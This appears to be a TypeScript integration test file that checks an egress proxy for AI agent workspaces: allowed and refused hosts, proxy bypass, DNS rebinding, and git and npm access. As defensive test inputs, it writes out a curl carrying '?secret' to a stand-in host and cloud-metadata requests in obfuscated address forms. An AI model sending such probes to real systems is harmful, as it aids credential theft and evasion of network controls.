import { networkInterfaces } from "node:os";
import { afterAll, beforeAll, expect, test } from "vitest";
import { type EgressWorker, STAND_IN_PORT as PORT, startEgressWorker } from "../testing/egress-worker.ts";

/*
 * What a program in a workspace of the profile `agent` reaches, in a real container.
 */

const CURL = "curl --silent --show-error --max-time 20";

let worker: EgressWorker;

beforeAll(async () => {
  worker = await startEgressWorker();
  await worker.client.workspaces.create({ name: "closed", profile: "agent" });
  worker.names.set("allowed.test", worker.internet);
  await worker.client.egress.allow({ name: "closed", rule: `allowed.test:${PORT}/private` });
});
afterAll(() => worker[Symbol.asyncDispose]());

test("An allowed host is reached by what programs use: curl, in a tunnel too, Node and Python (row 23)", async () => {
  const url = `http://allowed.test:${PORT}/`;
  for (const program of [
    `${CURL} ${url}`,
    `${CURL} --proxytunnel ${url}`,
    `node -e 'fetch("${url}").then((answer) => answer.text()).then((text) => process.stdout.write(text))'`,
    `python3 -c 'import urllib.request as u; print(u.urlopen("${url}").read().decode(), end="")'`,
  ]) {
    expect([program, await worker.run("closed", program)]).toEqual([
      program,
      { exitCode: 0, stdout: "from the internet\n", stderr: "" },
    ]);
  }
});

test("Any other is refused with a 403 that curl shows, listed and written down (row 23; the lethal trifecta)", async () => {
  const { stderr, exitCode } = await worker.run("closed", `${CURL} https://example.test/?secret`);
  expect(exitCode).toBe(56);
  expect(stderr).toContain("response 403");
  const plain = await worker.run("closed", `${CURL} http://example.test/`);
  expect(plain.stdout).toContain("This workspace may not connect to example.test:80. It is not on the list.");
  const refused = await worker.client.egress.refusals({ name: "closed" });
  expect(refused).toContainEqual(expect.objectContaining({ host: "example.test", port: 443, count: 1 }));
  expect(await worker.client.audit.list()).toContainEqual(
    expect.objectContaining({
      action: "egress.connect",
      target: "closed",
      outcome: "forbidden",
      details: { host: "example.test", port: "443", why: "It is not on the list." },
    }),
  );
});

test("Nothing gets out past the proxy: no name is resolved, and no socket leads anywhere (row 23)", async () => {
  const direct = await worker.run("closed", `${CURL} --noproxy '*' http://${worker.internet}:${PORT}/`);
  expect(direct.exitCode).toBe(7);
  const named = await worker.run("closed", `${CURL} --noproxy '*' http://allowed.test:${PORT}/`);
  expect(named.exitCode).toBe(6);
  const raw = `python3 -c 'import socket; socket.create_connection(("${worker.internet}", ${PORT}), 5)'`;
  expect((await worker.run("closed", raw)).stderr).toContain("Network is unreachable");
});

test("The worker is out of reach by each of its addresses, whatever a rule says (row 15; row 9)", async () => {
  const own = (): string[] => {
    const all = Object.values(networkInterfaces()).flatMap((addresses) => addresses ?? []);
    return all.filter(({ family }) => family === "IPv4").map(({ address }) => address);
  };
  const { stdout: gateway } = await worker.run("internet", "ip route show default | cut -d ' ' -f 3");
  expect(own()).toContain(gateway.trim());
  const { port } = worker.agent.agent;
  expect(await (await fetch(`http://127.0.0.1:${port}/health`)).json()).toMatchObject({ status: "ok" });
  const { egress } = worker.client;
  await expect(egress.allow({ name: "closed", rule: `127.0.0.1:${port}/private` })).rejects.toThrow(
    "the worker itself",
  );
  for (const address of own()) {
    const name = `own-${address.replaceAll(".", "-")}.test`;
    worker.names.set(name, address);
    // No rule names the loopback by its address.
    for (const host of address.startsWith("127.") ? [name] : [name, address]) {
      await egress.allow({ name: "closed", rule: `${host}:${port}/private` });
      const asked = await worker.run("closed", `${CURL} --noproxy '' http://${host}:${port}/health`);
      // Others' networks on this machine come and go.
      if (!own().includes(address)) continue;
      expect([host, asked.stdout]).toEqual([host, expect.stringContaining("the worker itself")]);
    }
  }
});

test("The metadata of a cloud is out of reach by its address, by a name that leads there and by odd forms of both (row 22; instance roles stolen by request forgery, as at Capital One in 2019)", async () => {
  worker.names.set("metadata.test", "169.254.169.254");
  worker.names.set("mapped.test", "::ffff:169.254.169.254");
  for (const rule of ["metadata.test:80/private", "mapped.test:80/private"]) {
    await worker.client.egress.allow({ name: "closed", rule });
  }
  const byAddress = worker.client.egress.allow({ name: "closed", rule: "169.254.169.254:80/private" });
  await expect(byAddress).rejects.toThrow("metadata service");
  for (const host of [
    "169.254.169.254",
    "metadata.test",
    "mapped.test",
    "0xA9FEA9FE",
    "2852039166",
    "[::ffff:a9fe:a9fe]",
  ]) {
    const tunnel = await worker.run("closed", `${CURL} --proxytunnel http://${host}/latest/meta-data/`);
    expect([host, tunnel.exitCode, tunnel.stderr]).toEqual([host, 56, expect.stringContaining("response 403")]);
    const plain = await worker.run("closed", `${CURL} http://${host}/latest/meta-data/`);
    expect([host, plain.stdout]).toEqual([host, expect.stringMatching(/may not connect/)]);
  }
});

test("A name that leads elsewhere with its next answer is dialled where it was judged (row 40; DNS rebinding, CVE-2026-70357)", async () => {
  worker.names.set("flips.test", worker.internet);
  await worker.client.egress.allow({ name: "closed", rule: `flips.test:${PORT}/private` });
  const url = `http://flips.test:${PORT}/`;
  expect((await worker.run("closed", `${CURL} ${url}`)).stdout).toBe("from the internet\n");
  worker.names.set("flips.test", "127.0.0.1");
  expect((await worker.run("closed", `${CURL} ${url}`)).stdout).toContain("It is at 127.0.0.1, the worker itself.");
});

test("What is allowed and taken back holds from the next connection on, without a restart of anything", async () => {
  worker.names.set("later.test", worker.internet);
  const asked = (): Promise<{ stdout: string }> => worker.run("closed", `${CURL} http://later.test:${PORT}/`);
  expect((await asked()).stdout).toContain("may not connect");
  await worker.client.egress.allow({ name: "closed", rule: `later.test:${PORT}/private` });
  expect((await asked()).stdout).toBe("from the internet\n");
  await worker.client.egress.deny({ name: "closed", host: "later.test" });
  expect((await asked()).stdout).toContain("may not connect");
});

test("Git goes to the workspace's own repository through the worker, past the proxy, and to no other by either (row 39)", async () => {
  await worker.client.workspaces.create({ name: "own", profile: "agent", clone: "#git:tool" });
  await worker.client.projects.init({ name: "other" });
  const push =
    "echo x > x && git add x && git commit -qm x && git push -q origin HEAD && git fetch -q && git log --format=%s";
  const person = "git config --global user.name Ada && git config --global user.email ada@example.test";
  expect(await worker.run("own", `${person} && ${push}`)).toMatchObject({ exitCode: 0, stdout: "x\nBegin tool\n" });
  for (const url of ["https://git.ws.internal/other.git", "https://github.com/git/git"]) {
    const clone = await worker.run("own", `git clone -q ${url} /tmp/other`);
    expect([url, clone.exitCode]).toEqual([url, 128]);
  }
  expect(await worker.client.egress.refusals({ name: "own" })).toEqual([]);
});

test("npm installs a package through the proxy", async () => {
  const registry = `http://registry.test:${PORT}/`;
  worker.names.set("registry.test", worker.internet);
  const publish = `mkdir -p ~/www/left ~/left && cd ~/left && echo '{"name":"left","version":"1.0.0"}' > package.json &&
    echo 'module.exports = "installed"' > index.js && npm pack --silent --pack-destination ~/www && cd ~/www && rmdir left &&
    echo '{"name":"left","dist-tags":{"latest":"1.0.0"},"versions":{"1.0.0":{"name":"left","version":"1.0.0",
      "dist":{"tarball":"${registry}left-1.0.0.tgz"}}}}' > left`;
  expect(await worker.run("internet", publish)).toMatchObject({ exitCode: 0 });
  const install = `mkdir -p ~/app && cd ~/app && npm install --silent --no-audit --registry ${registry} left && node -p 'require("left")'`;
  expect((await worker.run("closed", install)).exitCode).not.toBe(0);
  await worker.client.egress.allow({ name: "closed", rule: `registry.test:${PORT}/private` });
  expect(await worker.run("closed", install)).toMatchObject({ exitCode: 0, stdout: "installed\n" });
});

test("A program that does not read holds back the host that it is sent something by, and nobody else (row 50)", async () => {
  await worker.client.egress.allow({ name: "closed", rule: `allowed.test:${PORT + 1}/private` });
  const endless = `
import socket
server = socket.create_server(("0.0.0.0", ${PORT + 1}))
client, _ = server.accept()
client.recv(1)
sent = 0
while True:
    sent += client.send(bytes(65536))
    open("/tmp/sent.new", "w").write(str(sent))
    __import__("os").rename("/tmp/sent.new", "/tmp/sent")`;
  await worker.client.files.write({ name: "internet", path: "endless.py", content: endless });
  expect(await worker.run("internet", begin("python3 endless.py"))).toMatchObject({ exitCode: 0 });
  const stalled = `
import socket, time
proxy = socket.create_connection(("127.0.0.1", 7392))
proxy.sendall(b"CONNECT allowed.test:${PORT + 1} HTTP/1.1\\r\\nhost: x\\r\\n\\r\\nmore")
time.sleep(600)`;
  await worker.client.files.write({ name: "closed", path: "stalled.py", content: stalled });
  expect(await worker.run("closed", begin("python3 stalled.py"))).toMatchObject({ exitCode: 0 });
  const sent = async (): Promise<number> => Number((await worker.run("internet", "cat /tmp/sent")).stdout);
  await expect.poll(sent).toBeGreaterThan(0);
  let before = -1;
  const isStill = async (): Promise<boolean> => before === (before = await sent());
  await expect.poll(isStill, { interval: 500, timeout: 60_000 }).toBe(true);
  expect(before).toBeLessThan(64 * 1_024 * 1_024);
  expect((await worker.run("closed", `${CURL} http://allowed.test:${PORT}/`)).stdout).toBe("from the internet\n");
});

/** Leaves a program running. */
function begin(command: string): string {
  return `setsid ${command} > /tmp/said 2>&1 < /dev/null &`;
}
